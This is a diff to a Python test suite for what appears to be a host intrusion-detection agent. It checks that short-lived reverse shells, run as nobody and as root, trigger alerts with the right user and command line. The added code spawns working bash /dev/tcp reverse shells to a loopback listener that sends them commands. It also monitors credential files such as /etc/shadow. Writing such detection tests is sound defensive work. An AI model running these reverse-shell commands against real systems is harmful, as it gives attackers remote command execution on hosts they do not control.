@@ -145,9 +145,11 @@ FIM = {"paths": ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/e
 
 
 class Listener:
-    """A TCP listener on loopback that accepts and holds connections (the attacker's nc -l)."""
+    """A TCP listener on loopback that accepts and holds connections (the attacker's nc -l);
+    with ``commands``, sends them to each connection (what the attacker types)."""
 
-    def __init__(self) -> None:
+    def __init__(self, commands: bytes = b"") -> None:
+        self.commands = commands
         self.sock = socket.socket()
         self.sock.bind(("127.0.0.1", 0))
         self.sock.listen(16)
@@ -162,6 +164,8 @@ class Listener:
             except OSError:
                 return
             self.held.append(conn)
+            if self.commands:
+                conn.sendall(self.commands)
 
     def close(self) -> None:
         for c in self.held:
@@ -176,10 +180,20 @@ def listener() -> Iterator[Listener]:
     lst.close()
 
 
-def test_short_lived_reverse_shells_each_alert_with_command_line_and_user(host_factory, listener):
+def test_short_lived_reverse_shells_each_alert_with_command_line_and_user(host_factory):
     h = host_factory(file_integrity=FIM)
-    nobody = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{listener.port}; echo nobody-was-here >&3'"
-    root = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{listener.port}; echo root-was-here >&3'"
+    # The attacker's listener runs one command through the shell and ends it: each
+    # reverse shell lives milliseconds, far less than the old 5 s poll.
+    attacker = Listener(b"id\nexit\n")
+    try:
+        _reverse_shells(h, attacker.port)
+    finally:
+        attacker.close()
+
+
+def _reverse_shells(h: Host, port: int) -> None:
+    nobody = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; : nobody-was-here; bash <&3 >&3 2>&3'"
+    root = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; : root-was-here; bash <&3 >&3 2>&3'"
     # First an unprivileged one, then root's: the second must not be folded away.
     subprocess.run([need("setpriv"), "--reuid=65534", "--regid=65534", "--clear-groups",
                     "sh", "-c", nobody], check=True, timeout=30)
@@ -199,7 +213,7 @@ def test_short_lived_reverse_shells_each_alert_with_command_line_and_user(host_f
     assert first is not None and second is not None
     assert first["user"]["name"] == "nobody" and second["user"]["name"] == "root"
     assert first["process"]["parent"]["executable"].endswith("sh")
-    assert f"/dev/tcp/127.0.0.1/{listener.port}" in second["process"]["command_line"]
+    assert f"/dev/tcp/127.0.0.1/{port}" in second["process"]["command_line"]
 
 
 def test_outbound_connection_from_a_shell_names_process_and_destination(host_factory, listener):
